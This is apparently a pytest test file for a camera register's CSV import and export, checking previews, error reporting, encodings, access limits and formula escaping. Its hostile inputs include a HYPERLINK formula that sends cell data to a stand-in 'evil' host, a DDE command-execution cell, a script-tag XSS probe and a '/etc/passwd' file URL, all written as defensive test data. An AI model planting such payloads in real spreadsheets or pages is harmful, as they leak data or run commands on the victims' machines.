"""Tables of cameras from a browser: shown before anything happens, whole or not at all, read as
people's programs write them, and never a formula in somebody's spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from werkzeug.test import TestResponse

from storage.grants import Place, add_grant
from storage.people import find_user
from storage.register import cameras, find_camera
from storage.rights import Verb
from tests.storage.media import new_house
from tests.web.desk import NOW_US, Desk, Person
from tests.web.register_house import House

HEAD = "name,url,site,class,gb_code,vendor\r\n"


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    made = new_house(tmp_path_factory.mktemp("tables") / "data", NOW_US)
    desk = Desk(made.directory, made.clock)
    yield House(desk)
    desk.close()


def send(person: Person, raw: bytes | str, name: str = "cameras.csv") -> TestResponse:
    data = raw.encode() if isinstance(raw, str) else raw
    return person.post(
        "/cameras/import", {"table": (io.BytesIO(data), name)}, follow_redirects=True,
        content_type="multipart/form-data",
    )  # fmt: skip


def confirm(person: Person, shown: TestResponse, **fields: str) -> TestResponse:
    digest = re.search(r'name="digest" value="([^"]+)"', shown.text)
    assert digest, shown.text
    at = shown.request.path
    return person.post(at, {"digest": digest[1], "do": "all", **fields}, follow_redirects=True)


def tally(page: str) -> list[int]:
    """New, to be changed, as registered, mistakes."""
    part = page.split('class="tally"')[1].split("</ul>")[0]
    return [int(each.replace(",", "")) for each in re.findall(r"<b>([\d,]+)</b>", part)]


def names(house: House) -> set[str]:
    with house.desk.directory.ledger.read() as tx:
        return {one.name for one in cameras(tx)}


def test_what_a_table_would_do_is_shown_and_then_done_whole(house: House) -> None:
    table = HEAD + "T one,rtsp://u:geheim@192.0.2.1/a,city/t,1,,Acme\r\nT two,,city/t,2,,\r\n"
    shown = send(house.root, table)
    assert tally(shown.text) == [2, 0, 0, 0]
    assert "geheim" not in shown.text
    assert "T one" not in names(house)
    assert "Registered: 2. Changed: 0." in confirm(house.root, shown).text
    again = send(house.root, table.replace("Acme", "Other"))
    assert tally(again.text) == [0, 1, 1, 0]
    assert "<del>Acme</del> <ins>Other</ins>" in again.text
    assert "Registered: 0. Changed: 1." in confirm(house.root, again).text
    # An empty cell leaves what is registered: a source is not lost to a blank.
    assert tally(send(house.root, HEAD + "T one,,,,,\r\n").text) == [0, 0, 1, 0]
    rows = house.desk.audited("camera.add") + house.desk.audited("camera.set")
    assert [row.subject for row in rows] == ["t-one", "t-two", "t-one"]
    assert "geheim" not in "".join(str(row.detail) for row in rows)


def test_each_mistake_is_named_by_line_and_column_and_nothing_is_done(house: House) -> None:
    table = HEAD + (
        "M one,,,1,,\r\n"
        "M two,gopher://x,,1,,\r\n"
        "M three,,,7,,\r\n"
        "M four,,,1,123,\r\n"
        "M one,,,1,,\r\n"
        "M five,File:/etc/passwd,,1,,\r\n"
        ",,,1,,\r\n"
        "M six,,,1,,,,\r\n"
    )
    shown = send(house.root, table)
    assert tally(shown.text)[3] == 7
    found = re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td>", shown.text)
    assert found[:7] == [("3", "url"), ("4", "class"), ("5", "gb_code"), ("6", "name"),
                         ("7", "url"), ("8", "name"), ("9", "-")]  # fmt: skip
    assert 'value="all"' not in shown.text
    refused = confirm(house.root, shown)
    assert "there is nothing in this table that can be done" in refused.text.lower()
    assert not any(name.startswith("M ") for name in names(house))


@pytest.mark.parametrize(
    ("encoding", "said"), [("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8"), ("gb18030", "GB 18030")]
)
def test_tables_are_read_as_excel_writes_them_and_it_is_said(
    house: House, encoding: str, said: str
) -> None:
    table = f"名称,点位,点位类别,敏感\r\n北门 {encoding},上海/北区,一,否\r\n"
    wrong = send(house.root, table.encode(encoding))
    assert f"read as {said}" in wrong.text
    assert tally(wrong.text)[3] == 1  # 一 is no class
    shown = send(house.root, table.replace("一", "1").encode(encoding))
    assert f"北门 {encoding}" in shown.text
    assert "Registered: 1" in confirm(house.root, shown).text


def test_names_that_a_spreadsheet_would_run_come_out_as_text_and_in_again(house: House) -> None:
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2 gate",
               "<script>alert(1)</script>"]  # fmt: skip
    target = io.StringIO()
    csv.writer(target).writerows([["name"], *([name] for name in hostile)])
    shown = send(house.root, target.getvalue())
    assert "<script>alert" not in shown.text
    assert "Registered: 5" in confirm(house.root, shown).text
    out = house.root.get("/cameras/export-csv").data.decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(out))]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert set(hostile) <= names(house)
    back = send(house.root, out)  # what went out says nothing new when it comes in
    assert tally(back.text)[:2] == [0, 0]
    assert tally(back.text)[3] == 0


def test_a_table_waits_sealed_and_for_its_sender_alone(house: House) -> None:
    shown = send(house.root, HEAD + "S one,rtsp://u:geheim@192.0.2.1/a,,1,,\r\n")
    folder = house.desk.directory.cache / "tables"
    kept = [path.read_bytes() for path in folder.iterdir()]
    assert not any(b"geheim" in each or b"S one" in each for each in kept)
    assert "no longer kept" in house.eve.get(shown.request.path).text
    house.root.post(shown.request.path, {"do": "forget"})
    assert "no longer kept" in house.root.get(shown.request.path).text


def test_a_table_does_nothing_where_its_sender_may_not(house: House) -> None:
    shown = send(house.maria, HEAD + "R in,,city/north/a,1,,\r\nR out,,city/south/a,1,,\r\n")
    assert tally(shown.text) == [1, 0, 0, 1]
    assert re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td>", shown.text)[0] == ("3", "site")


def test_a_register_that_changed_meanwhile_is_shown_again(house: House) -> None:
    confirm(house.root, send(house.root, HEAD + "C one,,,1,,A\r\n"))
    shown = send(house.root, HEAD + "C one,,,1,,B\r\n")
    confirm(house.root, send(house.root, HEAD + "C one,,,2,,C\r\n"))
    late = confirm(house.root, shown)
    assert "changed meanwhile" in late.text
    with house.desk.directory.ledger.read() as tx:
        assert find_camera(tx, "c-one").vendor == "C"


def test_five_thousand_lines_are_one_table_and_its_page_stays_light(house: House) -> None:
    lines = [f"F {n},rtsp://192.0.2.{n % 250}/{n},city/f/{n % 50},3,," for n in range(5000)]
    shown = send(house.root, HEAD + "\r\n".join(lines))
    assert tally(shown.text) == [5000, 0, 0, 0]
    assert len(shown.data) < 150_000
    more = send(house.root, HEAD + "\r\n".join([*lines, "F more,,,3,,"]))
    assert "more than 5000 lines" in more.text.replace(",", "")


def test_what_is_no_table_is_refused(house: House) -> None:
    for raw in (b"", b"\xff\xfe\x00\x01\x80", b'name\n"unclosed', b"colour\nred\n", b"\0" * 50):
        assert send(house.root, raw).status_code in (404, 422)


def test_nobody_guesses_the_password_of_a_camera_that_they_only_see(house: House) -> None:
    with house.desk.directory.ledger.write() as tx:
        add_grant(
            tx, user=find_user(tx, "maria"), verbs=frozenset({Verb.SEE}),
            place=Place(site="city/seen"), from_us=0, until_us=NOW_US * 2, purpose="seen",
            made_by="root", at_us=NOW_US,
        )  # fmt: skip
    row = "G one,rtsp://u:{}@192.0.2.1/a,city/seen,1,,\r\n"
    confirm(house.root, send(house.root, HEAD + row.format("geheim")))
    told = [tally(send(house.maria, HEAD + row.format(word)).text) for word in ("geheim", "falsch")]
    assert told == [[0, 0, 0, 1]] * 2
